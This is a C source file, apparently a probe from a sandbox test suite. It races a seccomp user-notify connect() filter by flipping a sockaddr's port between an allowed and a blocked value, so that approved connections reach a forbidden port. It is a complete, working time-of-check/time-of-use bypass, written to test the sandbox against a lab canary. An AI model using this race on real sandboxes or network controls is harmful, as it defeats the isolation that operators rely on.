/*
 * Row 38: race porta's seccomp connect() watch.
 *
 * usage: net_race HOST GOOD_PORT BAD_PORT ROUNDS
 *
 * One thread keeps flipping the port of a sockaddr between GOOD_PORT (a
 * port some rule names, so the supervisor lets the call continue) and
 * BAD_PORT (one no rule names), while the main thread connect()s with that
 * very sockaddr, ROUNDS times and for at least a second (whichever is
 * longer: on a loaded machine the two threads may share one core, and a
 * race needs the flipper to have run between the rounds), sending a line
 * on each connection that opens.  The rounds start once the flipper runs.  A notified connect() that is let through re-reads its address
 * from the caller's memory, so a watch that decided on its own copy can be
 * raced; only the network namespace then stands between the program and
 * HOST:BAD_PORT.  The runner's canary on HOST:BAD_PORT (in the lab's
 * internet) is the evidence.  Control: outside the sandbox about half of
 * the rounds reach HOST:BAD_PORT.
 */
#include "probe.h"

#include <arpa/inet.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <time.h>

static struct sockaddr_in target;
static atomic_int stop, running;
static uint16_t good, bad;

static void *flipper(void *arg)
{
	(void)arg;
	volatile uint16_t *port = &target.sin_port;
	atomic_store(&running, 1);
	while (!atomic_load(&stop)) {
		*port = good;
		*port = bad;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	probe_started();
	if (argc != 5)
		return 2;
	target.sin_family = AF_INET;
	if (inet_pton(AF_INET, argv[1], &target.sin_addr) != 1)
		return 2;
	good = htons((uint16_t)atoi(argv[2]));
	bad = htons((uint16_t)atoi(argv[3]));
	int rounds = atoi(argv[4]);
	target.sin_port = good;
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		return 2;
	while (!atomic_load(&running))
		sched_yield();
	struct timespec t0, now;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	int opened = 0, refused = 0, other = 0;
	for (int i = 0;; i++) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		long ms = (now.tv_sec - t0.tv_sec) * 1000 + (now.tv_nsec - t0.tv_nsec) / 1000000;
		if (i >= rounds && ms >= 1000)
			break;
		int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
		if (s < 0)
			break;
		int rc = connect(s, (struct sockaddr *)&target, sizeof target);
		int err = rc < 0 ? errno : 0;
		if (rc < 0 && err == EINPROGRESS) {
			struct pollfd p = { .fd = s, .events = POLLOUT };
			if (poll(&p, 1, 500) == 1) {
				socklen_t el = sizeof err;
				getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &el);
			} else {
				err = ETIMEDOUT;
			}
		}
		if (err == 0) {
			opened++;
			(void)!write(s, "raced\n", 6);
		} else if (err == ECONNREFUSED) {
			refused++;
		} else {
			other++;
		}
		close(s);
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	dprintf(STDOUT_FILENO, "RESULT opened ok %d\nRESULT refused ok %d\nRESULT other ok %d\n", opened,
		refused, other);
	return 0;
}
